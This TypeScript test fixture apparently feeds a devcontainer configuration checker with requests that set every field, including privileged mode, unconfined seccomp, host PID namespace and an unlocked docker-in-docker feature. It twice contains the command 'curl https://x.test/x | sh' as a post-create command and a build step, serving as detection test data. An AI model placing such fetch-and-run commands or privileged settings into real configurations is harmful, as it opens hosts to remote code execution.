import type { Fact } from '../src/model/fact.ts';
import type { FeatureUse, Request } from '../src/model/request.ts';
import { build, container, given, mount, variable, volume } from './rule-cases.ts';

const feature: Fact<FeatureUse> = given({
  id: 'ghcr.io/devcontainers/features/docker-in-docker:2', source: 'registry', name: 'ghcr.io/devcontainers/features/docker-in-docker', tag: '2', options: { version: 'latest' },
  lock: 'missing', adds: ['privileged', 'mounts'],
});

const full = container({
  runtime: given('runc'), image: given('debian:latest'), platform: given('linux/arm64'), user: given('vscode'), remoteUser: given('vscode'),
  updateRemoteUserUid: given(false), groups: [given('docker')], privileged: given(true), init: given(true), entrypoint: given(['/entry']),
  command: given(['/sbin/init']), overrideCommand: given(false), environment: [variable('A', 'b')],
  hostVariables: [given({ name: 'A', into: 'environment', hasDefault: false })], namespaces: [given({ kind: 'pid', mode: 'host' })],
  mounts: [volume('/srv:/srv'), mount('source=docker,target=/var/lib/docker')], volumesFrom: [given('x')], workspaceMount: mount('source=/srv,target=/w,type=bind'),
  workspaceFolder: given('/w'), workingFolder: given('/w'), devices: [given({ path: { base: 'root', path: '/dev/kvm' }, target: '/dev/kvm', permissions: 'rwm' })],
  deviceRules: [given('a')], deviceRequests: [given({ driver: '', ids: [], capabilities: ['gpu'] })], capabilities: [given({ change: 'drop', name: 'ALL' })],
  securityOptions: [given({ name: 'seccomp', value: 'unconfined' })], maskedPaths: given([]), readOnlyPaths: given([]), sysctls: [given({ name: 'a', value: 'b' })],
  ulimits: [given({ name: 'core', value: '-1' })], resources: [given({ name: 'memory', value: '-1' })], cgroupParent: given('/x'), oomScoreAdjust: given(-1),
  oomKillDisable: given(true), ports: [given({ containerPort: '80', protocol: 'tcp' })], publishAllPorts: given(true), networks: [given('x')], links: [given('x')],
  extraHosts: [given('a:1')], dns: [given('1.1.1.1')], hostname: given('x'), hostCommands: [given({ event: 'initializeCommand', command: 'x' })],
  containerCommands: [given({ event: 'postCreateCommand', command: 'curl https://x.test/x | sh' })], features: [feature], labels: [given({ name: 'a', value: 'b' })],
  hostFiles: [given({ path: { base: 'root', path: '/x' }, access: 'read', by: 'x' })], restart: given('always'), readOnlyRoot: given(true),
  annotations: [given({ name: 'a', value: 'b' })], logging: [given({ name: 'a', value: 'b' })], replacedImage: given('x'), project: given('x'), dependsOn: [given('x')],
  hostRequirements: [given({ name: 'cpus', value: '4' })], oddities: [given({ kind: 'unknown-property', text: 'x' })],
});

/** Requests in which every field says something, and the same with nothing said: what a rule looks at, it looks at in one of them. */
export const fullRequests: readonly Request[] = [
  full,
  container(),
  build(),
  build({
    context: given({ base: 'root', path: '/' }), dockerfile: given({ base: 'root', path: '/x' }), target: given('x'), platform: given('linux/arm64'),
    arguments: [variable('A', 'b', 'build')], options: [given({ name: 'network', value: 'host' })], privileged: given(true), cacheFrom: [given('x')],
    baseImages: [given('debian')], steps: [given({ command: 'curl https://x.test/x | sh', flags: [] })], daemonConfiguration: [given('{"data-root":"/d"}')],
    hostVariables: [given({ name: 'A', into: 'arguments', hasDefault: false })], hostFiles: [given({ path: { base: 'root', path: '/x' }, access: 'read', by: 'x' })],
    features: [feature], user: given('root'), entrypoint: given(['x']), command: given(['/sbin/init']), environment: [variable('A', 'b')],
    oddities: [given({ kind: 'unknown-property', text: 'x' })],
  }),
];
